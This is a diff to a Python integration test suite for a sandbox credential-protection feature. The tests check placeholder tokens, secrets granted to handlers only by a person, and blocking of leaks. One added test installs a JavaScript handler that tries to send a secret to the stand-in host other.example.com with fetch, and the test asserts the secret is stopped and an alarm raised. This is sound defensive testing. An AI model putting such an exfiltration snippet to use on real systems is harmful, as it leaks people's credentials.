@@ -3,16 +3,21 @@
 
 import base64
 import json
+import os
 import pathlib
 import shlex
+import signal
 import unittest
 import urllib.parse
 
+from article_test import ADD_HEADER
 from world import World, wait_for
 
 DOCUMENT = pathlib.Path(__file__).resolve().parents[2] / "docs/credentials.md"
 PASSPHRASE = "correct horse battery staple"
 VALUE = "s3cret-Value+of/the=person-0123456789"
+THIRD = "third-Value-that-handlers-may-read-0123"
+FOURTH = "fourth-Value-in-its-place-9876543210-abc"
 SECOND = "another-Value-that-nobody-may-see-98765"
 
 world = guest = None
@@ -99,15 +104,68 @@ class Credentials(unittest.TestCase):
                 alarms += 1
                 with self.subTest(body=form):
                     self.assertEqual((status, json.loads(body or "{}").get("step")), ("403", "credential"), errors)
-        body, status, _ = self.curl(f"https://other.example.com/credential?q={token}")
-        self.assertEqual((status, json.loads(body)["step"]), ("403", "credential"))
-        alarms += 1
+                body, status, errors = self.curl(f"https://other.example.com/credential?q={urllib.parse.quote(form, safe='%')}")
+                alarms += 1
+                with self.subTest(query=form):
+                    self.assertEqual((status, json.loads(body or "{}").get("step")), ("403", "credential"), errors)
         self.assertEqual(len(arrived()), before)
-        told = wait_for("every alarm is told", lambda: (a := [p for m, p in world.client.events if m == "credential.alarm"]) and len(a) >= alarms and a, 30)
-        self.assertEqual({a["credential"] for a in told}, {"github"})
+        told = wait_for("every alarm is told", lambda: (a := [p for m, p in world.client.events if m == "credential.alarm" and p["credential"] == "github"]) and len(a) >= alarms and a, 30)
         row = world.client.call("log.get", row=told[-1]["row"])["row"]
         self.assertEqual((row["state"], row["step"], row["host"], row["credentials"]), ("denied", "credential", "other.example.com", "github"))
         self.assertNotIn(token, row["path"])
+
+    def test_a_login_shell_has_the_placeholder(self):
+        token = self.placeholder("GITHUB_TOKEN")
+        for shell in ("sh", "bash"):
+            self.assertEqual(guest.run(shell, "-lc", "printenv GITHUB_TOKEN").stdout.strip(), token)
+
+    def headers(self, host="github.com"):
+        """What the article's handler sent, as the guest is told, and as it arrived."""
+        body, status, errors = self.curl(f"https://{host}/headers")
+        self.assertEqual(status, "200", errors + body)
+        return body.split()[0].removeprefix("x-auth-token="), (world.dir / "nginx-headers.log").read_text().splitlines()[-1]
+
+    def test_a_handler_reads_what_it_was_given_and_the_guest_does_not(self):
+        world.ctl(*documented("sallyctl", "credentials", "add", "secret"), input=THIRD + "\n")
+        self.addCleanup(world.client.call, "module.set", sandbox=guest.id, source="")
+        self.assertTrue(world.client.call("module.set", sandbox=guest.id, source=ADD_HEADER)["inForce"])
+        # Off unless a person says so.
+        self.assertEqual(self.headers(), ("undefined", "github.com undefined"))
+        world.ctl(*documented("sallyctl", "credentials", "handlers", "secret"))
+        told, sent = self.headers()
+        self.assertEqual(sent, f"github.com {THIRD}")
+        self.assertRegex(told, r"\Asp_[A-Za-z0-9_]+\Z")
+        # Each change is seen by the next request.
+        world.ctl("credentials", "set", "secret", input=FOURTH + "\n")
+        self.assertEqual(self.headers()[1], f"github.com {FOURTH}")
+        world.ctl("credentials", "lock")
+        self.assertEqual(self.headers()[1], "github.com undefined")
+        world.ctl(*documented("sallyctl", "credentials", "unlock"), input=PASSPHRASE + "\n")
+        self.assertEqual(self.headers()[1], f"github.com {FOURTH}")
+        # It may know it, and say it to nobody else.
+        source = """export default { async outbound(request, env) {
+          console.log("it is", env.SECRET, btoa(env.SECRET));
+          try { await fetch("https://other.example.com/credential?q=" + env.SECRET); } catch (error) { console.log(error.message); }
+          return new Response("it is " + env.SECRET);
+        } }"""
+        self.assertTrue(world.client.call("module.set", sandbox=guest.id, source=source)["inForce"])
+        before = len(arrived())
+        body, status, _ = self.curl("https://web.example.com/")
+        self.assertEqual(status, "200")
+        self.assertRegex(body, r"\Ait is sp_[A-Za-z0-9_]+\Z")
+        self.assertEqual(len(arrived()), before)
+        lines = wait_for("the lines are stored", lambda: len(found := world.client.call("handlers.log", sandbox=guest.id)["lines"]) >= 2 and found)
+        self.assertNotIn(FOURTH, json.dumps(lines))
+        self.assertNotIn(base64.b64encode(FOURTH.encode()).decode()[:40], json.dumps(lines))
+        alarm = wait_for("the alarm", lambda: [p for m, p in world.client.events if m == "credential.alarm" and p["credential"] == "secret"])[-1]
+        row = wait_for("its row", lambda: (r := world.client.call("log.get", row=alarm["row"])["row"])["state"] == "denied" and r)
+        self.assertEqual((row["step"], row["host"]), ("credential", "other.example.com"))
+        self.assertIn("by the handler", row["reason"])
+        tried = world.client.call("handlers.try", sandbox=guest.id, request={"method": "GET", "url": "https://web.example.com/"})
+        self.assertNotIn(FOURTH, json.dumps(tried))
+        # Who is removed, and made anew, has to be granted anew.
+        world.ctl("credentials", "rm", "secret")
+        self.assertEqual(world.client.call("settings.get", name="handler.credentials")["value"], [])
 
     def test_a_sandbox_that_may_not_use_it_gets_and_sends_nothing(self):
         token = self.placeholder("GITHUB_TOKEN")
@@ -120,7 +178,7 @@ class Credentials(unittest.TestCase):
 
     def test_z_a_new_engine_needs_the_passphrase_and_keeps_the_placeholder(self):
         token = self.placeholder("GITHUB_TOKEN")
-        world.client.call("engine.shutdown", stopSandboxes=False)
+        os.kill(world.engine_pid(), signal.SIGKILL)
         world.engine.wait(60)
         world.start_engine()
         wait_for("the new engine has the sandbox", lambda: guest.info["state"] == "running")
@@ -139,7 +197,7 @@ class Credentials(unittest.TestCase):
         self.assertTrue(any(p.suffix in (".db", ".sqlite", ".sqlite3") for p in files), files)
         for path in files:
             content = path.read_bytes()
-            for value in (VALUE, SECOND, PASSPHRASE):
+            for value in (VALUE, SECOND, THIRD, FOURTH, PASSPHRASE):
                 for form in (value.encode(), base64.b64encode(value.encode()), value.encode().hex().encode()):
                     self.assertNotIn(form, content, path)
 
